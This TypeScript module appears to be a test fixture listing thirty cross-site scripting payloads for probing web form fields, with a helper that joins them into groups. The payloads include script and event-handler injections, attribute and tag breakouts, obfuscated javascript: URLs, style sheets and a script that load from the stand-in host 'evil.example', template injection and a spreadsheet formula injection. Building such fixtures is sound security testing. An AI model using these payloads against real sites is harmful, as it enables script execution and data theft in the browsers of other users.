/** A text that tries to execute code or send requests in the browser of someone who views it. */
export interface Payload {
  readonly kind: string
  readonly text: string
}

/** The target of payloads' requests; no request to it ever leaves the machine. */
export const OUTSIDE = 'evil.example'

const TAG = '<script>alert(1)</script>'

/** Thirty payloads; most fit into the shortest fields (a site's name has 50 characters). */
export const PAYLOADS: readonly Payload[] = [
  { kind: 'script tag', text: TAG },
  { kind: 'script from elsewhere', text: `<script src=//${OUTSIDE}/1.js></script>` },
  { kind: 'handler of a broken image', text: '<img src=x onerror=alert(1)>' },
  { kind: 'image from elsewhere', text: `<img src=//${OUTSIDE}/a.png>` },
  { kind: 'svg onload', text: '<svg onload=alert(1)>' },
  { kind: 'svg onload without blanks or an end', text: '<svg/onload=alert(1)//' },
  { kind: 'out of an attribute, into a tag', text: '"><img src=x onerror=alert(1)>' },
  { kind: 'out of an attribute, into a handler', text: '" autofocus onfocus="alert(1)' },
  { kind: 'out of an attribute in single quotes', text: "' autofocus onfocus='alert(1)" },
  { kind: 'javascript: address', text: 'javascript:alert(1)' },
  { kind: 'javascript: address with blanks and controls', text: ' \u0001java\tscript\n:alert(1)' },
  { kind: 'javascript: address in entities', text: '&#106;avascript&colon;alert(1)' },
  { kind: 'data: address', text: `data:text/html,${TAG}` },
  { kind: 'out of a title', text: `</title>${TAG}` },
  { kind: 'out of a script', text: `</script>${TAG}` },
  { kind: 'out of a textarea', text: `</textarea>${TAG}` },
  { kind: 'out of a comment', text: `--!>${TAG}` },
  { kind: 'out of a text of a script', text: '\'-alert(1)-\'\\x22-alert(1)//"-alert(1)-"' },
  { kind: 'JSON escapes', text: '\\u003csvg onload=alert(1)\\u003e' },
  { kind: 'tag in entities', text: '&lt;svg onload=alert(1)&gt;' },
  { kind: 'wide letters and a turn of direction', text: `\u202e＜script＞alert(1)＜/script＞${TAG}` },
  { kind: 'style sheet with an address', text: `<style>*{background:url(//${OUTSIDE}/c)}</style>` },
  { kind: 'style sheet that imports', text: `<style>@import'//${OUTSIDE}/i.css'</style>` },
  { kind: 'style of an attribute', text: `red;background:url(//${OUTSIDE}/s)` },
  { kind: 'frame with a page in it', text: `<iframe srcdoc="${TAG}">` },
  { kind: 'another base and a refresh', text: `<base href=//${OUTSIDE}/><meta http-equiv=refresh content=0;/>` },
  { kind: 'form that leads elsewhere', text: `<form><button formaction=javascript:alert(1)>Save` },
  { kind: 'template of a framework', text: "{{constructor.constructor('alert(1)')()}}${alert(1)}" },
  { kind: 'changes its meaning when it is read again', text: '<noscript><p title="</noscript><svg onload=alert(1)>">' },
  { kind: 'formula', text: `=HYPERLINK("//${OUTSIDE}","x")` },
]

/** Several payloads concatenated in one text. */
export interface Group {
  readonly text: string
  readonly parts: readonly Payload[]
}

/** Groups payloads into texts: a separate record of each kind for every payload would take an hour to view. */
export const groupPayloads = (payloads: readonly Payload[], size: number): Group[] =>
  Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) => {
    const parts = payloads.slice(at * size, (at + 1) * size)
    return { parts, text: parts.map(({ text }) => text).join(' ') }
  })
